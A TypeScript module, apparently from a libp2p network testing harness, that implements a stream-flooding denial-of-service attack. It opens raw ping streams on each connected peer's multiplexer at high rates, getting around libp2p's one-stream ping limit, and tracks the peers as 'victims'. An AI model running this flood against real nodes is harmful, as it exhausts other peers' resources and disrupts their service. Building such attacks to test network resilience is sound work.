import { repeat } from '@peerwatch/model'
import { muxerOf } from './attackable.ts'
import type { Connection, PeerId, Stream } from '@libp2p/interface'
import type { CallOff, Clock, Timers } from '@peerwatch/model'
import type { Attack, Attackable } from './attackable.ts'

export interface FloodsInit {
  readonly clock: Clock
  /** Ping streams opened to each neighbour. A stalled process catches up, by one second at most. Default 120. */
  readonly streamsPerSecond?: number | undefined
  /** Streams open to one neighbour at a time: what a neighbour that answers nothing can cost us. Default 64. */
  readonly mostOpen?: number | undefined
  /** Who is flooded. Default: whoever is connected. */
  readonly targets?: ((peer: PeerId) => boolean) | undefined
}

const TICK_MS = 50
const CATCH_UP_MS = 1_000
const ANSWER_WITHIN_MS = 1_000

/**
 * Opens ping streams to every neighbour, dialled or dialling, new ones included, far beyond what anybody needs.
 *
 * libp2p's own ping allows itself one stream at a time, so the streams are opened on the multiplexer, negotiation and ping in one packet.
 */
export function floods(node: Attackable, init: FloodsInit): Attack {
  const { clock, streamsPerSecond = 120, mostOpen = 64, targets = () => true } = init
  let victims = new Map<string, Victim>()
  let callOff: CallOff | undefined

  const tick = (): void => {
    const nowMs = clock.monotonicMs()
    const still = new Map<string, Victim>()
    for (const connection of node.libp2p.getConnections()) {
      const key = connection.remotePeer.toString()
      if (connection.status !== 'open' || still.has(key) || !targets(connection.remotePeer)) continue
      const victim = victims.get(key) ?? { open: new Set(), pacedAtMs: nowMs }
      still.set(key, victim)
      flood(connection, victim, clock, { streamsPerSecond, mostOpen })
    }
    for (const [key, victim] of victims) if (!still.has(key)) drop(victim)
    victims = still
  }
  return {
    start: () => {
      callOff ??= repeat(clock, TICK_MS, tick)
    },
    stop: () => {
      callOff?.()
      callOff = undefined
      for (const victim of victims.values()) drop(victim)
      victims.clear()
    }
  }
}

interface Victim {
  /** Streams that have not ended, each with what ends it. */
  readonly open: Set<() => void>
  /** Up to here its streams were opened. */
  pacedAtMs: number
}

function flood(connection: Connection, victim: Victim, clock: Clock, limits: { streamsPerSecond: number; mostOpen: number }): void {
  const nowMs = clock.monotonicMs()
  const pauseMs = 1_000 / limits.streamsPerSecond
  victim.pacedAtMs = Math.max(victim.pacedAtMs, nowMs - CATCH_UP_MS)
  while (victim.pacedAtMs + pauseMs <= nowMs && victim.open.size < limits.mostOpen) {
    victim.pacedAtMs += pauseMs
    openPing(connection, victim.open, clock)
  }
}

function drop(victim: Victim): void {
  for (const end of victim.open) end()
}

/** Each message of a negotiation is prefixed with its length. */
const NEGOTIATION = ['/multistream/1.0.0\n', '/ipfs/ping/1.0.0\n'].map(line => String.fromCharCode(line.length) + line).join('')
const PING = new TextEncoder().encode(NEGOTIATION + 'p'.repeat(32))

/** One ping: ended when it was answered as a whole, reset when it was not in time or is called off. Never throws: a victim may vanish at any point. */
function openPing(connection: Connection, open: Set<() => void>, clock: Timers): void {
  let stream: Stream | undefined
  let received = 0
  const settle = (): void => {
    callOff()
    open.delete(reset)
  }
  const reset = (): void => {
    settle()
    stream?.abort(new Error('called off'))
  }
  const callOff = clock.after(ANSWER_WITHIN_MS, reset)
  open.add(reset)
  const send = async (): Promise<void> => {
    stream = await muxerOf(connection)?.createStream()
    if (stream == null || !open.has(reset)) {
      reset()
      return
    }
    stream.addEventListener('close', settle)
    stream.addEventListener('message', ({ data }) => {
      received += data.byteLength
      if (received < PING.byteLength) return
      settle()
      stream?.close().catch(() => {})
    })
    stream.send(PING)
  }
  send().catch(reset)
}
